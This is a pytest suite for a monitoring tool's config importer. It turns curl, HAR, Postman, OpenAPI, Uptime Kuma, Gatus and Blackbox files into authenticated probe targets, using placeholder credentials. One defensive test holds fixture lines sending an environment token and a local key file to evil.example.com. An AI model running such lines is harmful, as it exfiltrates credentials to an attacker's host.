"""`import`: what curl, blackbox, HAR, OpenAPI, Postman, Uptime Kuma and Gatus have becomes a configuration whose targets are let in."""

import base64
import json
import re
import stat
import subprocess
import time
from pathlib import Path
from random import Random
from urllib.parse import parse_qs, urlsplit

import pytest

from loopback import Handler, Server
from processes import Exporter, eventually

BEARER, PASSWORD, KEY, QUERY, COOKIE = "sesame-bearer-1", "sesame pass:2", "sesame-key-3", "sesame-query-4", "session=sesame-cookie-5"
SECRETS = [BEARER, PASSWORD, KEY, QUERY, COOKIE, "sesame-client-6", base64.b64encode(f"joe:{PASSWORD}".encode()).decode()]


class Api(Handler):
    """Each path lets one credential in."""

    def do_GET(self):
        url = urlsplit(self.path)
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        basic = "Basic " + base64.b64encode(f"joe:{PASSWORD}".encode()).decode()
        good = {"/bearer": self.headers.get("Authorization") == f"Bearer {BEARER}",
                "/basic": self.headers.get("Authorization") == basic,
                "/header": self.headers.get("X-Api-Key") == KEY,
                "/query": parse_qs(url.query).get("token") == [QUERY],
                "/cookie": self.headers.get("Cookie") == COOKIE,
                "/both": self.headers.get("Authorization") == f"Bearer {BEARER}" and self.headers.get("X-Api-Key") == KEY,
                "/fetched": self.headers.get("Authorization") == "Bearer fetched",
                "/pets/7": self.headers.get("Authorization") == f"Bearer {BEARER}" and parse_qs(url.query).get("page") == ["1"],
                "/public": True}
        if url.path == "/token":
            client = base64.b64encode(b"authprobe:sesame-client-6").decode()
            known = self.headers.get("Authorization") == f"Basic {client}"
            return self.answer(200 if known else 401, json.dumps({"access_token": "fetched", "token_type": "Bearer", "expires_in": 600}))
        if url.path not in good:
            return self.answer(404)
        return self.answer(200 if good[url.path] else 401, '{"status": "UP", "items": [{"id": 12}]}', Content_Type="application/json")
    do_POST = do_GET


@pytest.fixture(scope="module")
def api():
    with Server(Api) as server:
        yield f"http://127.0.0.1:{server.port}"


def run_import(binary, folder: Path, *arguments, text: str = "", **environment) -> subprocess.CompletedProcess:
    return subprocess.run([binary, "import", *map(str, arguments)], cwd=folder, input=text, capture_output=True, text=True, timeout=60,
                          check=False, env={"PATH": "/usr/bin:/bin", **environment})


def curl(api: str) -> dict:
    return {"calls.sh": f"""#!/bin/sh
# what the runbook has
curl -s '{api}/bearer' -H 'Authorization: Bearer {BEARER}' | jq .
curl -u "joe:{PASSWORD}" {api}/basic \\
  -o /dev/null
curl --header="X-Api-Key: $PARTNER_KEY" {api}/header > answer.json 2>&1
curl -H $'Accept: application/json' '{api}/query?token={QUERY}&page=1'; curl -b '{COOKIE}' {api}/cookie
curl -H "X-Api-Key: $PARTNER_KEY" -H "Authorization: Bearer {BEARER}" {api}/both
curl -d 'name=new' {api}/bearer
curl -F file=@x {api}/upload
curl --fly {api}/public
curl -x http://joe:sesame-proxy@127.0.0.1:1 {api}/public
curl --ntlm -u joe:x {api}/public
curl --negotiate -u : {api}/public
"""}


def blackbox(api: str) -> dict:
    host = api.removeprefix("http://")
    return {"blackbox.yml": json.dumps({"modules": {
        "http_bearer": {"prober": "http", "timeout": "5s", "http": {
            "valid_status_codes": [200, 204], "authorization": {"credentials": BEARER}, "fail_if_body_not_matches_regexp": ["\"UP\""],
            "fail_if_header_not_matches": [{"header": "Content-Type", "regexp": "json"}], "preferred_ip_protocol": "ip4",
            "valid_http_versions": ["HTTP/1.1"]}},
        "http_basic": {"prober": "http", "http": {"basic_auth": {"username": "joe", "password": PASSWORD},
                                                  "proxy_url": "http://127.0.0.1:1", "no_proxy": "intern.example.com, 127.0.0.1"}},
        "http_header": {"prober": "http", "http": {"http_headers": {"X-Api-Key": {"secrets": [KEY]}}}},
        "http_fetched": {"prober": "http", "http": {"oauth2": {"client_id": "authprobe", "client_secret": "sesame-client-6",
                                                               "token_url": f"{api}/token", "endpoint_params": {"grant_type": "client_credentials"}}}},
        "icmp": {"prober": "icmp"}}}),
        "prometheus.yml": json.dumps({"global": {"scrape_interval": "200ms"}, "scrape_configs": [
            {"job_name": "node", "static_configs": [{"targets": ["localhost:9100"]}]},
            {"job_name": "bearer", "metrics_path": "/probe", "params": {"module": ["http_bearer"]},
             "static_configs": [{"targets": [f"{host}/bearer"], "labels": {"team": "shop"}}],
             "relabel_configs": [{"source_labels": ["__address__"], "target_label": "__param_target"}]},
            {"job_name": "basic", "metrics_path": "/probe", "params": {"module": ["http_basic"]},
             "static_configs": [{"targets": [f"{api}/basic"]}]},
            {"job_name": "header", "metrics_path": "/probe", "params": {"module": ["http_header"]},
             "file_sd_configs": [{"files": ["lists/*.json"]}], "consul_sd_configs": [{"server": "consul:8500"}]},
            {"job_name": "fetched", "metrics_path": "/probe", "params": {"module": ["http_fetched"]},
             "static_configs": [{"targets": [f"{api}/fetched"]}]},
            {"job_name": "ping", "metrics_path": "/probe", "params": {"module": ["icmp"]}, "static_configs": [{"targets": ["x"]}]}]}),
        "lists/a.json": json.dumps([{"targets": [f"{api}/header"], "labels": {"tier": "1"}}])}


def har(api: str) -> dict:
    def entry(method: str, path: str, status: int = 200, kind: str = "xhr", **headers: str) -> dict:
        return {"_resourceType": kind, "request": {"method": method, "url": api + path, "headers": [
            {"name": name.replace("_", "-"), "value": value} for name, value in {"Host": "x", "Sec-Fetch-Mode": "cors", **headers}.items()]},
            "response": {"status": status, "content": {"mimeType": "application/json"}}}
    return {"session.har": json.dumps({"log": {"version": "1.2", "entries": [
        entry("GET", "/public", kind="document"), entry("GET", "/logo.png", kind="image"),
        entry("GET", "/bearer", Authorization=f"Bearer {BEARER}"), entry("GET", "/bearer", Authorization=f"Bearer {BEARER}"),
        entry("GET", "/cookie", Cookie=COOKIE, If_None_Match="x"), entry("GET", f"/query?token={QUERY}"),
        entry("GET", "/header", status=401), entry("POST", "/bearer", Authorization=f"Bearer {BEARER}"), entry("GET", "/gone", status=404),
        entry("GET", "/broken", status=503)]}})}


def openapi(api: str) -> dict:
    answers = {"200": {"description": "ok"}}
    return {"openapi.json": json.dumps({
        "openapi": "3.1.0", "info": {"title": "Pets", "version": "1"}, "servers": [{"url": "{scheme}://{host}", "variables": {
            "scheme": {"default": "http"}, "host": {"default": api.removeprefix("http://")}}}],
        "security": [{"token": []}],
        "components": {
            "securitySchemes": {"token": {"$ref": "#/components/securitySchemes/real~1token"},
                                "real/token": {"type": "http", "scheme": "bearer"}, "key": {"type": "apiKey", "in": "header", "name": "X-Api-Key"},
                                "round": {"$ref": "#/components/securitySchemes/round"},
                                "login": {"type": "http", "scheme": "basic"}},
            "parameters": {"id": {"name": "id", "in": "path", "required": True, "schema": {"type": "integer", "example": 7}}}},
        "paths": {
            "/pets/{id}": {"parameters": [{"$ref": "#/components/parameters/id"}],
                           "get": {"operationId": "pets/get", "responses": answers, "parameters": [
                               {"name": "page", "in": "query", "required": True, "schema": {"type": "integer", "default": 1}},
                               {"name": "size", "in": "query", "schema": {"type": "integer"}}]},
                           "delete": {"responses": answers}},
            "/both": {"get": {"responses": answers, "security": [{"token": [], "key": []}]}},
            "/basic": {"get": {"operationId": "login", "responses": answers, "security": [{"round": []}, {"login": []}]}},
            "/public": {"get": {"operationId": "public", "responses": answers, "security": []}},
            "/pets/{name}/toys": {"get": {"responses": answers, "parameters": [{"name": "name", "in": "path", "required": True}]}},
            "/circle": {"get": {"responses": answers, "security": [{"round": []}]}}}})}


def postman(api: str) -> dict:
    return {"pets.postman_collection.json": json.dumps({
        "info": {"name": "Pets", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "auth": {"type": "bearer", "bearer": [{"key": "token", "value": "{{token}}", "type": "string"}]},
        "variable": [{"key": "baseUrl", "value": "{{host}}"}, {"key": "token", "value": "overwritten-by-the-environment"}],
        "item": [
            {"name": "Me", "request": {"method": "GET", "url": {"raw": "{{baseUrl}}/:what", "variable": [{"key": "what", "value": "bearer"}]}},
             "event": [{"listen": "test", "script": {"exec": ["pm.test('x')"]}}]},
            {"name": "Old", "item": [
                {"name": "Basic", "request": {"url": "{{baseUrl}}/basic", "auth": {"type": "basic", "basic": [
                    {"key": "username", "value": "joe"}, {"key": "password", "value": "{{password}}"}]}}},
                {"name": "Key", "request": {"url": "{{baseUrl}}/header", "auth": {"type": "apikey", "apikey": [
                    {"key": "key", "value": "X-Api-Key"}, {"key": "value", "value": KEY}, {"key": "in", "value": "header"}]}}},
                {"name": "Open", "request": {"url": "{{baseUrl}}/public?q=ä b", "auth": {"type": "noauth"},
                                             "body": {"mode": "formdata", "formdata": []}}}]},
            {"name": "New", "request": {"method": "POST", "url": "{{baseUrl}}/bearer", "body": {"mode": "raw", "raw": "{}"}}},
            {"name": "Thing", "request": {"url": {"raw": "{{baseUrl}}/things/:identity/:id?x=/:y", "variable": [{"key": "id", "value": "1"}]}}},
            {"name": "Elsewhere", "request": {"url": "{{unknown}}/x"}},
            {"name": "Hawk", "request": {"url": "{{baseUrl}}/x", "auth": {"type": "hawk"}}}]}),
        "pets.postman_environment.json": json.dumps({"name": "test", "values": [
            {"key": "host", "value": api, "enabled": True}, {"key": "token", "value": BEARER, "type": "secret", "enabled": True},
            {"key": "password", "value": PASSWORD, "enabled": True}, {"key": "token", "value": "off", "enabled": False}]})}


def kuma(api: str) -> dict:
    usual = {"active": True, "interval": 20, "maxredirects": 10, "accepted_statuscodes": ["200-299"], "upsideDown": False, "ignoreTls": False,
             "method": "GET", "headers": None, "body": None, "notificationIDList": {"1": True}, "tags": []}
    return {"backup.json": json.dumps({"version": "1.23.0", "notificationList": [{"id": 1, "name": "ops chat", "config": "{}"}], "monitorList": [
        {**usual, "id": 1, "name": "Shop / me", "type": "http", "url": f"{api}/bearer", "headers": json.dumps({"Authorization": f"Bearer {BEARER}"})},
        {**usual, "id": 2, "name": "Word", "type": "keyword", "url": f"{api}/basic", "keyword": "\"UP\"", "basic_auth_user": "joe",
         "basic_auth_pass": PASSWORD, "authMethod": "basic"},
        {**usual, "id": 3, "name": "Cloud", "type": "http", "url": f"{api}/fetched", "authMethod": "oauth2-cc", "oauth_client_id": "authprobe",
         "oauth_client_secret": "sesame-client-6", "oauth_token_url": f"{api}/token", "accepted_statuscodes": ["200", "204-206"]},
        {**usual, "id": 7, "name": "Proxied", "type": "http", "url": f"{api}/public", "proxyId": 1},
        {**usual, "id": 4, "name": "Ping", "type": "ping", "hostname": "example.com"},
        {**usual, "id": 5, "name": "Off", "type": "http", "url": f"{api}/public", "active": False},
        {**usual, "id": 6, "name": "Down", "type": "http", "url": f"{api}/x", "upsideDown": True}]})}


def gatus(api: str) -> dict:
    return {"config.yaml": f"""
alerting:
  slack: {{ webhook-url: "https://hooks.slack.example/x" }}
x-usual: &usual
  interval: 20s
  headers: {{ Authorization: "Bearer ${{SHOP_TOKEN}}" }}
endpoints:
  - <<: *usual
    name: me
    group: shop
    url: "{api}/bearer"
    conditions:
      - "[STATUS] == 200"
      - "[BODY].status == UP"
      - "[BODY].items[0].id > 11"
      - "has([BODY].errors) == false"
      - "[BODY] == pat(*\\"UP\\"*)"
      - "[RESPONSE_TIME] < 9000"
      - "[CERTIFICATE_EXPIRATION] > 48h"
      - "len([BODY].items) == 1"
    alerts: [{{ type: slack }}]
  - name: any
    url: "{api}/header"
    interval: 30s
    headers: {{ X-Api-Key: {KEY} }}
    conditions: ["[STATUS] == any(200, 204)"]
  - name: fetched
    url: "{api}/fetched"
    client: {{ insecure: true, timeout: 3s, oauth2: {{ token-url: "{api}/token", client-id: authprobe, client-secret: sesame-client-6, scopes: ["x"] }} }}
    conditions: ["[STATUS] < 300", "[STATUS] >= 200"]
  - name: ping
    url: "icmp://example.com"
    conditions: ["[CONNECTED] == true"]
"""}


# The files, what follows them, the states that the targets reach, and what is said about the rest.
CASES = {
    "curl": (curl, ["calls.sh"], {"BEARER": "ok", "BASIC": "ok", "HEADER": "ok", "QUERY": "ok", "COOKIE": "ok", "BOTH": "ok"},
             ["calls.sh:9: not carried: {api}/bearer: POST may change something: --with-writes carries such requests too",
              "calls.sh:10: not carried: curl command: it uploads a multipart form",
              "calls.sh:11: not carried: curl command: its option --fly is not known here",
              "calls.sh:12: not carried: curl command: its proxy has a password",
              "calls.sh:13: not carried: curl command: it authenticates by NTLM",
              "calls.sh:14: not carried: curl command: it authenticates by Negotiate: write a credential of kind negotiate, with keytab, principal and kdc"]),
    "blackbox": (blackbox, ["blackbox.yml", "prometheus.yml"],
                 {"BEARER": "ok", "BASIC": "ok", "FETCHED": "ok", "header.HEADER": "ok"},
                 ["module icmp: its prober is icmp, and ours is HTTP", "job ping: its module is not carried",
                  "job node: it scrapes an exporter's metrics, not /probe", "module http_bearer: valid_http_versions: ",
                  "job header: consul_sd_configs: only static_configs and file_sd_configs are read"]),
    "har": (har, ["session.har"], {"PUBLIC": "ok", "BEARER": "ok", "COOKIE": "ok", "QUERY": "ok", "HEADER": "ok"},
            ["POST may change something", "GET {api}/gone: nothing was there (404)", "GET {api}/broken: it was answered with 503",
             "1 requests for images, styles and scripts"]),
    "postman": (postman, ["pets.postman_collection.json", "pets.postman_environment.json"],
                {"Me": "ok", "Old-Basic": "ok", "Old-Key": "ok", "Old-Open": "ok"},
                ["New: POST may change something", "Me: its test script: scripts are not run",
                 "Elsewhere: its URL has the variable unknown: give it with --set unknown=VALUE",
                 "Thing: its path has the variable identity, which has no value",
                 "Hawk: its authorization of type hawk is not one of ours"]),
    "uptime-kuma": (kuma, ["backup.json"], {"Shop-me": "ok", "Word": "ok", "Cloud": "ok"},
                    ["Ping: its type is ping, and ours is HTTP", "Off: it is paused", "Proxied: its proxy is not in the file", "Down: it is upside down",
                     "notification ops chat: Alertmanager sends the alerts"]),
    "gatus": (gatus, ["config.yaml"], {"shop-me": "ok", "any": "ok", "fetched": "ok"},
              ["shop-me: condition [CERTIFICATE_EXPIRATION]: ", "shop-me: condition len([BODY].items): ", "shop-me: alerts: ",
               "ping: its URL is not http:// or https://", "config.yaml:3: not carried: alerting: "]),
}


def named(api: str, target: str) -> str:
    """A target whose source has no name is called after its URL."""
    prefix, _, path = target.rpartition(".")
    if not path.isupper():
        return target
    host, port = api.removeprefix("http://").split(":")
    return f"{prefix}.{host}-{port}-{path.lower()}" if prefix else f"{host}-{port}-{path.lower()}"


def write(folder: Path, files: dict):
    for name, text in files.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text)


def secret_files(folder: Path) -> dict:
    return {path.name: path.read_text().removesuffix("\n") for path in folder.iterdir()}


@pytest.mark.parametrize("name", CASES)
def test_the_targets_of_each_format_are_let_in(binary, api, tmp_path, running, name):
    make, arguments, states, not_carried = CASES[name]
    write(tmp_path, make(api))
    environment = {"PARTNER_KEY": KEY, "SHOP_TOKEN": BEARER}
    result = run_import(binary, tmp_path, *arguments, "--output", "imported.toml", "--secrets-dir", "keys", "--interval", "200ms",
                        "--with-references")
    assert result.returncode == 0, result.stderr
    for line in not_carried:
        assert line.format(api=api) in result.stderr, result.stderr
    written = (tmp_path / "imported.toml").read_text()
    for secret in SECRETS:
        assert secret not in written + result.stdout + result.stderr
    for path in (tmp_path / "keys").iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert set(secret_files(tmp_path / "keys").values()) <= set(SECRETS)
    assert subprocess.run([binary, "check", "imported.toml"], cwd=tmp_path, timeout=60, check=False, env=environment,
                          capture_output=True).returncode == 0
    exporter = running.add(Exporter(tmp_path / "imported.toml", **environment))
    exporter.secrets += SECRETS
    for target, state in states.items():
        exporter.wait_for_state(named(api, target), state)
    found = {labels["target"] for labels, _ in exporter.metrics().all("authprobe_target_info")}
    assert found == {named(api, target) for target in states}


def test_an_openapi_operation_becomes_a_pair(binary, api, tmp_path, running):
    write(tmp_path, openapi(api))
    result = run_import(binary, tmp_path, "openapi.json", "--output", "imported.toml", "--interval", "200ms")
    assert result.returncode == 0, result.stderr
    for line in ["secrets/token: to be written by you: the token", "DELETE /pets/{id}: it may change something",
                 "GET /pets/{name}/toys: its parameter name has no example: give it with --set name=VALUE",
                 "GET /circle: its security scheme round is not described"]:
        assert line in result.stderr, result.stderr
    assert not list((tmp_path / "secrets").iterdir())
    for name, secret in {"token": BEARER, "login-password": PASSWORD, "login-username": "joe", "key-token-token": BEARER,
                         "key-token-X-Api-Key": KEY}.items():
        assert f"secrets/{name}: to be written by you" in result.stderr
        (tmp_path / "secrets" / name).write_text(secret)
    exporter = running.add(Exporter(tmp_path / "imported.toml"))
    exporter.secrets += SECRETS
    targets = ["pets-get", "get-both", "login"]
    for target in [*targets, *(f"{target}-refused" for target in targets), "public"]:
        exporter.wait_for_state(target, "ok")
    statuses = {target: exporter.metrics().value("authprobe_http_status_code", target=target)
                for target in ("pets-get", "pets-get-refused", "public")}
    assert statuses == {"pets-get": 200, "pets-get-refused": 401, "public": 200}


def next_name(exporter, known: str) -> str:
    """The other target of the exporter, as soon as there is one."""
    def others():
        return {labels["target"] for labels, _ in exporter.metrics().all("authprobe_target_info")} - {known}
    eventually(lambda: len(others()) == 1)
    return others().pop()


def test_a_file_of_file_sd_becomes_a_list_of_targets(binary, api, tmp_path, running):
    write(tmp_path, blackbox(api))
    result = run_import(binary, tmp_path, "blackbox.yml", "lists/a.json", "--set", "module=http_header", "--interval=200ms",
                        "--output=imported.toml")
    assert result.returncode == 0 and "1 target, 1 credential" in result.stderr, result.stderr
    assert "[targets_from.a]" in (tmp_path / "imported.toml").read_text()
    exporter = running.add(Exporter(tmp_path / "imported.toml"))
    exporter.secrets += SECRETS
    exporter.wait_for_state(named(api, "a.HEADER"), "ok")
    (tmp_path / "lists/a.json").write_text(json.dumps([{"targets": [f"{api}/header", f"{api}/header?again=1"]}]))
    exporter.wait_for_state(next_name(exporter, named(api, "a.HEADER")), "ok")


def test_without_an_output_nothing_is_written(binary, api, tmp_path):
    write(tmp_path, curl(api))
    result = run_import(binary, tmp_path, "-", "--with-references", text=(tmp_path / "calls.sh").read_text())
    assert result.returncode == 0 and "nothing is written (--output FILE)" in result.stderr, result.stderr
    assert 'token = { file = "secrets/' in result.stdout and 'secret_headers.X-Api-Key = { env = "PARTNER_KEY" }' in result.stdout
    assert [path.name for path in tmp_path.iterdir()] == ["calls.sh"]
    assert not [secret for secret in SECRETS if secret in result.stdout + result.stderr]
    strict = run_import(binary, tmp_path, "calls.sh", "--strict", "--with-references")
    assert strict.returncode == 1 and strict.stdout == result.stdout


def test_files_that_are_there_stay(binary, api, tmp_path):
    write(tmp_path, curl(api))
    arguments = ("calls.sh", "--output", "imported.toml")
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets/127.0.0.1-2").write_text("of somebody else")
    refused = run_import(binary, tmp_path, *arguments)
    assert refused.returncode == 2 and "secrets/127.0.0.1-2 is there already: --force replaces it: nothing was written" in refused.stderr
    assert secret_files(tmp_path / "secrets") == {"127.0.0.1-2": "of somebody else"} and not (tmp_path / "imported.toml").exists()
    forced = run_import(binary, tmp_path, *arguments, "--force")
    assert forced.returncode == 0, forced.stderr
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    assert (tmp_path / "secrets/127.0.0.1-2").read_text() != "of somebody else"
    assert stat.S_IMODE((tmp_path / "secrets/127.0.0.1-2").stat().st_mode) == 0o600
    again = run_import(binary, tmp_path, *arguments)
    assert again.returncode == 2 and "is there already" in again.stderr
    (tmp_path / "folder").mkdir()
    folder = run_import(binary, tmp_path, "calls.sh", "--output=folder", "--force")
    assert folder.returncode == 2 and "folder is a folder: nothing was written" in folder.stderr
    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before


def test_one_secret_is_one_credential_for_its_hosts(binary, tmp_path):
    calls = "".join(f"curl -H 'Authorization: Bearer {BEARER}' https://{host}/v1\n" for host in ("a.example.com", "b.example.com:8443", "a.example.com"))
    result = run_import(binary, tmp_path, "-", "--output", "imported.toml", text=calls)
    assert result.returncode == 0, result.stderr
    written = (tmp_path / "imported.toml").read_text()
    assert written.count("[credentials.") == 1 and 'hosts = ["a.example.com", "b.example.com:8443"]' in written
    assert '[targets."a.example.com-v1"]' in written and '[targets."a.example.com-v1-2"]' in written
    assert secret_files(tmp_path / "secrets") == {"a.example.com": BEARER}


@pytest.mark.parametrize("command, kind", [
    ("curl https://joe:sesame%3Dword@api.example.com/x", {"secrets": ["sesame=word"], "has": ['kind = "basic"', 'username = "joe"']}),
    ("curl -u sk_live_a8Kd93kdkKd9al2: https://api.example.com/x", {"secrets": ["sk_live_a8Kd93kdkKd9al2", ""], "has": ['kind = "basic"']}),
    ("curl --digest -u joe:sesame https://api.example.com/x", {"secrets": ["sesame"], "has": ['kind = "digest"']}),
    ("curl -H 'Authorization: GenieKey sesame' https://api.example.com/x", {"secrets": ["sesame"], "has": ['scheme = "GenieKey"']}),
    ("curl -H 'Authorization: sesame' https://api.example.com/x", {"secrets": ["sesame"], "has": ['header = "Authorization"']}),
    ("curl https://hooks.example.com/services/T0/B0/a8Kd93kdkKd9al2qwE3xR2zT", {"secrets": ["a8Kd93kdkKd9al2qwE3xR2zT"], "has": ["/{key}"]}),
    ("curl --aws-sigv4 aws:amz -u AKIA1:sesame -H 'X-Amz-Security-Token: sesame-2' https://s3.eu-central-1.amazonaws.com/b",
     {"secrets": ["AKIA1", "sesame", "sesame-2"], "has": ['region = "eu-central-1"', 'service = "s3"']}),
    ("curl -b \"session=$SESSION\" -H \"Authorization: Bearer ${TOKEN}\" https://api.example.com/x --set-is-used", {"secrets": [], "has": []}),
    ("curl -H \"Authorization: Bearer ${TOKEN}\" https://api.example.com/x", {"secrets": [], "has": ['token = { env = "TOKEN" }']}),
    ("curl -X POST -H 'Content-Type: application/json' -d '{\"user\":\"joe\", \"password\":\"sesame\"}' -H 'X-Key: sesame-2' https://api.example.com/x",
     {"secrets": ["sesame", "sesame-2"], "has": [r'body = "{\"user\":\"joe\", \"password\":\"${password}\"}"']}),
    ("curl -d 'user=joe&api_key=sesame%26more' -H 'X-Key: sesame-2' https://api.example.com/x",
     {"secrets": ["sesame&more", "sesame-2"], "has": ['body = "user=joe&api_key=${api_key}"']}),
    ("curl -E client.pem:sesame --key client.key https://api.example.com/x", {"secrets": ["sesame"], "has": ['kind = "client_certificate"', "/client.pem"]}),
])
def test_each_place_of_a_secret_has_its_credential(binary, tmp_path, command, kind):
    result = run_import(binary, tmp_path, "-", "--output", "imported.toml", "--with-writes", "--with-references", text=command)
    if not kind["has"]:
        assert result.returncode == 1 and "--set-is-used is not known here" in result.stderr
        return
    assert result.returncode == 0, result.stderr
    written = (tmp_path / "imported.toml").read_text()
    assert sorted(secret_files(tmp_path / "secrets").values()) == sorted(kind["secrets"]) if kind["secrets"] else not list((tmp_path / "secrets").glob("*"))
    for text in kind["has"]:
        assert text in written
    assert "sesame" not in written + result.stderr and "a8Kd93" not in written + result.stderr


def test_nothing_refers_to_our_files_and_variables_unasked(binary, tmp_path):
    """A file of somebody else must not make us send ours to a host of theirs."""
    (tmp_path / "mine.pem").write_text("the key of this machine")
    sources = {
        "calls.sh": f"curl -H \"X-Api-Key: $MY_TOKEN\" https://evil.example.com/a\ncurl -E {tmp_path}/mine.pem https://evil.example.com/b\n",
        "blackbox.yml": json.dumps({"modules": {"http": {"prober": "http", "http": {"bearer_token_file": f"{tmp_path}/mine.pem"}}}}),
        "config.yaml": 'endpoints: [{name: x, url: "https://evil.example.com/", headers: {X-Api-Key: "${MY_TOKEN}"}, conditions: ["[STATUS] == 200"]}]\n'}
    write(tmp_path, {**sources, "jobs.json": json.dumps([{"targets": ["https://evil.example.com/"]}])})
    for name in sources:
        more = ["jobs.json", "--set", "module=http"] if name == "blackbox.yml" else []
        result = run_import(binary, tmp_path, name, *more, MY_TOKEN="the-token-of-this-machine")
        assert result.returncode == 0 and " env = " not in result.stdout and "mine.pem" not in result.stdout, result.stdout
        told = re.findall(r"to be written by you: (.*) \(--with-references refers to it instead\)", result.stderr)
        expected = {"calls.sh": {"the value of the variable MY_TOKEN", f"the content of {tmp_path}/mine.pem"},
                    "blackbox.yml": {f"the content of {tmp_path}/mine.pem"}, "config.yaml": {"the value of the variable MY_TOKEN"}}
        assert set(told) == expected[name], result.stderr
        asked = run_import(binary, tmp_path, name, *more, "--with-references")
        assert 'env = "MY_TOKEN"' in asked.stdout or "mine.pem" in asked.stdout
        assert "of this machine" not in result.stdout + asked.stdout


HEADERS = ["DPoP", "X-Auth", "X-Auth-Key", "X-CSRFToken", "X-Csrf-Token", "X-XSRF-TOKEN", "X-Session", "X-Session-Id", "Cookie", "Cookie2",
           "X-Api-Key", "Private-Token", "X-Amz-Security-Token"]
FIELDS = ["code", "state", "otp", "assertion", "client_assertion", "password", "user_password", "passphrase", "SAMLResponse", "access_token",
          "id_token", "client_secret", "api_key", "sig"]


def secret_of(random: Random) -> str:
    """Short, and of letters and digits: nothing but the name of its place tells that it is one."""
    return "s" + "".join(random.choices("abcdefghjkmnpqrstuvwxyz23456789", k=8)) + "7z"


class Request:
    """One request with a secret in one place."""

    def __init__(self, number: int, random: Random, place: str, name: str):
        self.secret, self.body, self.headers, query = secret_of(random), "", {}, ""
        if place == "header":
            value = f"a={self.secret}; b=1" if name.startswith("Cookie") else self.secret
            self.headers[name] = value
        elif place == "query":
            query = f"?a=1&{name}={self.secret}"
        elif place == "referer":
            self.headers["Referer"] = f"https://r.example.com/?x=1&{name}={self.secret}"
        elif place == "form":
            self.body, self.headers = f"a=1&{name}={self.secret}", {"X-Api-Key": "sbeside77", "Content-Type": "application/x-www-form-urlencoded"}
        elif place == "json":
            self.body, self.headers = json.dumps({"a": {name: self.secret, "b": 1}}), {"X-Api-Key": "sbeside77", "Content-Type": "application/json"}
        self.user = f"joe:{self.secret}@" if place == "user" else ""
        self.url = f"https://{self.user}h{number}.example.com/x{query}"
        self.method = "POST" if self.body else "GET"


def requests_with_secrets(random: Random) -> list[Request]:
    places = ([("header", name) for name in HEADERS] + [("user", "")]
              + [(place, name) for place in ("query", "referer", "form", "json") for name in FIELDS])
    return [Request(number, random, *place) for number, place in enumerate(places)]


def as_curl(requests: list[Request]) -> tuple[str, str]:
    return "all.sh", "".join("curl " + " ".join([f"-X {one.method}", *(f"-H '{name}: {value}'" for name, value in one.headers.items()),
                                                 *([f"-d '{one.body}'"] if one.body else []), f"'{one.url}'"]) + "\n" for one in requests)


def as_har(requests: list[Request]) -> tuple[str, str]:
    return "all.har", json.dumps({"log": {"entries": [{"request": {
        "method": one.method, "url": one.url, "headers": [{"name": name, "value": value} for name, value in one.headers.items()],
        **({"postData": {"mimeType": one.headers["Content-Type"], "text": one.body}} if one.body else {})},
        "response": {"status": 200, "content": {}}} for one in requests]}})


def as_postman(requests: list[Request]) -> tuple[str, str]:
    return "all.json", json.dumps({
        "info": {"name": "X", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "item": [{"name": f"r{number}", "request": {
            "method": one.method, "url": one.url, "header": [{"key": name, "value": value} for name, value in one.headers.items()],
            **({"body": {"mode": "raw", "raw": one.body}} if one.body else {})}} for number, one in enumerate(requests)]})


def as_kuma(requests: list[Request]) -> tuple[str, str]:
    return "all.json", json.dumps({"monitorList": [{
        "id": number, "name": f"r{number}", "type": "http", "active": True, "interval": 20, "maxredirects": 0, "accepted_statuscodes": ["200"],
        "method": one.method, "url": one.url, "headers": json.dumps(one.headers), "body": one.body or None} for number, one in enumerate(requests)]})


def as_gatus(requests: list[Request]) -> tuple[str, str]:
    return "all.yaml", json.dumps({"endpoints": [{
        "name": f"r{number}", "url": one.url, "method": one.method, "headers": one.headers, "body": one.body, "conditions": ["[STATUS] == 200"],
        "extra-labels": {"token": one.secret}} for number, one in enumerate(requests)]})


def as_blackbox(requests: list[Request]) -> tuple[str, str]:
    """With a configuration of Prometheus in the same test."""
    return "all.yml", json.dumps({"modules": {f"m{number}": {"prober": "http", "http": {
        "method": one.method, "headers": one.headers, **({"body": one.body} if one.body else {})}} for number, one in enumerate(requests)}})


def as_openapi(requests: list[Request]) -> tuple[str, str]:
    """Its texts are from documentation; secrets stand in the URL of a server at most."""
    return "all.json", json.dumps({"openapi": "3.0.0", "info": {"title": "x", "version": "1"}, "paths": {
        f"/p{number}": {"servers": [{"url": one.url.partition("?")[0]}], "get": {"operationId": f"r{number}", "responses": {"200": {"description": "x"}}}}
        for number, one in enumerate(requests) if one.user}})


@pytest.mark.parametrize("seed", range(2))
@pytest.mark.parametrize("write_as", [as_curl, as_har, as_postman, as_kuma, as_gatus, as_blackbox, as_openapi])
def test_a_secret_is_nowhere_but_in_its_own_file(binary, tmp_path, write_as, seed):
    """Each place of a request whose name is known to carry one."""
    requests = requests_with_secrets(Random(seed))
    name, text = write_as(requests)
    sources = {name: text}
    if write_as is as_blackbox:
        sources["prometheus.json"] = json.dumps({"scrape_configs": [
            {"job_name": f"r{number}", "metrics_path": "/probe", "params": {"module": [f"m{number}"]},
             "static_configs": [{"targets": [one.url], "labels": {"api_key": one.secret}}]} for number, one in enumerate(requests)]})
    write(tmp_path, sources)
    result = run_import(binary, tmp_path, *sources, "--with-writes", "--output", "imported.toml", "--secrets-dir", "keys")
    written = (tmp_path / "imported.toml").read_text() if result.returncode == 0 else ""
    shown = written + result.stdout + result.stderr
    shown += subprocess.run([binary, "check", "imported.toml"], cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False).stdout
    assert not [one.secret for one in requests if one.secret in shown], result.stderr
    if write_as is as_openapi:
        return
    kept = "\n".join(secret_files(tmp_path / "keys").values())
    lost = [(one.url, one.headers, one.body) for one in requests if one.secret not in kept
            and not (write_as is as_har and "Referer" in one.headers)]   # a browser makes it, and it is not carried
    assert not lost, result.stderr
    assert all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in (tmp_path / "keys").iterdir())


